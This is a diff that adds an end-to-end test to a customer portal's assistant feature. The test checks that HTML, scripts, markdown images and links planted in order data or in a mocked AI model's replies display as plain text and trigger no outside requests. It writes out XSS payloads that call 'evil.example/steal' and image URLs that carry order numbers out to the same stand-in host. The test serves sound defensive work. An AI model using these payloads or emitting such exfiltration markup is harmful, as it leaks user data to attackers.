@@ -156,3 +156,64 @@ test('a company agrees to the provider by its head and by keyboard, who answers 
   await asker.waitForURL('**/orders/20480')
   expect(provider.asked.length).toBeGreaterThan(1)
 })
+
+test('an answer of whoever obeys every text, with HTML, a picture and addresses in it, is text, and asks nothing of the network', async () => {
+  const theirs = await portal.aTenant({ name: 'Charlevoix', clientCode: 'CHA' })
+  const member = await portal.aPerson({ tenants: [theirs] })
+  await portal.database(
+    `insert into portal.assistant_settings (tenant_id, mode, consented_by, consented_at) values ($1, 'provider', 'x', now())`,
+    [theirs],
+  )
+  const evil = '<img src=x onerror="fetch(`https://evil.example/steal`)">'
+  await portal.ingest('orders', [
+    {
+      ...{ Primary: 'O-3', 'Client Code': 'CHA', 'Ord No': '30481', 'Montant Total': '1.00' },
+      'Ord Stat': evil,
+    },
+  ])
+  provider.state.answer = ({ messages }) => {
+    const [found] = messages.filter(({ role }: { role: string }) => role === 'tool')
+    if (!found)
+      return {
+        call: [
+          { name: 'order', args: { number: '30481' } },
+          {
+            name: 'offer_issue',
+            args: { order: '30481', description: `${evil} ![x](https://evil.example/p.png)` },
+          },
+        ],
+      }
+    return {
+      say: [
+        `The order says ${found.content}`,
+        `It obeys ${evil}<b>here</b><script>fetch('//evil.example')</script>.`,
+        'See ![the order](https://evil.example/p.png?d=30481) and [there](javascript:alert).',
+        'Or evil。example, 10.0.0.1/steal and evil[.]example.',
+        'That is the order.',
+      ].join('\n'),
+    }
+  }
+  const page = await aPage(portal, { as: member, at: ASSISTANT })
+  const asked: string[] = []
+  page.on('request', (request) => asked.push(request.url()))
+  page.on('dialog', (dialog) => asked.push(`dialog ${dialog.message()}`))
+  await ask(page, 'Your question', 'Where is order 30481?')
+  const log = page.getByRole('log')
+  await log.getByText('That is the order.').waitFor()
+  await page.getByRole('button', { name: 'Report this issue' }).waitFor()
+  const shown = await log.innerText()
+  expect(shown).toContain('See the order and there')
+  expect(shown).toContain('Or …')
+  expect(shown).not.toMatch(/evil|10\.0\.0|javascript|[<>]/)
+  // Nothing of it is an element: the links are those of the portal.
+  expect(await log.locator('img, script, b, iframe').count()).toBe(0)
+  const links = await log.locator('a').evaluateAll((all) => all.map((a) => a.getAttribute('href')))
+  expect(links).toEqual(['/orders/30481'])
+  // What was planted is text where the portal itself shows it, too.
+  await enter(page, 'link', 'Order 30481')
+  await page.waitForURL('**/orders/30481')
+  await page.getByText(evil).first().waitFor()
+  expect(asked.length).toBeGreaterThan(0)
+  expect(asked.filter((address) => new URL(address).origin !== new URL(portal.url).origin)).toEqual([])
+  expect(asked.filter((address) => /evil|steal|\/x$|p\.png/.test(address))).toEqual([])
+})
